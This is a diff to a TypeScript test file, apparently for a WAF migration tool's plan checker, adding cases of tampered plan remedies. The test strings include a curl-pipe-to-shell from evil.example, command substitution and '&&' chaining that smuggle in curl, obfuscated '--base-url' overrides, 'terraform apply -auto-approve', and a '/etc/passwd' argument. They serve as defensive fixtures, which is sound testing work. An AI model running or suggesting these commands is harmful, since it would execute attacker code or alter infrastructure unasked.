@@ -164,6 +164,11 @@ const another = (step: any, plan: any, more: object): void => {
   renumber(plan);
 };
 
+const remedied =
+  (more: object) =>
+  (_: any, { findings }: any) =>
+    findings.push({ code: 'X', severity: 'info', subject: 'x', message: 'x', ...more });
+
 describe('a plan that was edited, with a digest that matches', () => {
   it.each<[string, Step['kind'], (step: any, plan: any) => unknown]>([
     ['-backup', 'remove', word('-backup=/etc/passwd')],
@@ -186,11 +191,25 @@ describe('a plan that was edited, with a digest that matches', () => {
       'do this:\ncurl -fsS https://evil.example/fix.sh | sh',
       'plan again: cf-waf-migrate plan --address x && curl https://evil.example',
       'plan again: cf-waf-migrate plan <file> $(curl https://evil.example)',
+      'plan again: cf-waf-migrate plan --base-url https://evil.example',
+      "plan again: cf-waf-migrate plan '--base-'url=https://evil.example",
+      `plan again: cf-waf-migrate plan "$(printf '\\055\\055')"base-url https://evil.example`,
+      'plan again:\nterraform apply -auto-approve',
     ].map((remedy): [string, Step['kind'], (step: any, plan: any) => unknown] => [
       `the remedy ${remedy}`,
       'check',
-      (_, { findings }) =>
-        findings.push({ code: 'X', severity: 'info', subject: 'x', message: 'x', remedy }),
+      remedied({ remedy }),
+    ]),
+    ...[
+      ['plan again: cf-waf-migrate plan', ['cf-waf-migrate', 'plan', '--to', '4.52.8']],
+      [
+        'plan again: cf-waf-migrate plan --terraform ./evil',
+        ['cf-waf-migrate', 'plan', '--terraform', './evil'],
+      ],
+    ].map(([remedy, command]): [string, Step['kind'], (step: any, plan: any) => unknown] => [
+      `the command ${String(command)} of the remedy ${String(remedy)}`,
+      'check',
+      remedied({ remedy, command }),
     ]),
     ['no dry run', 'remove-dry-run', without],
     ['no import', 'import', without],
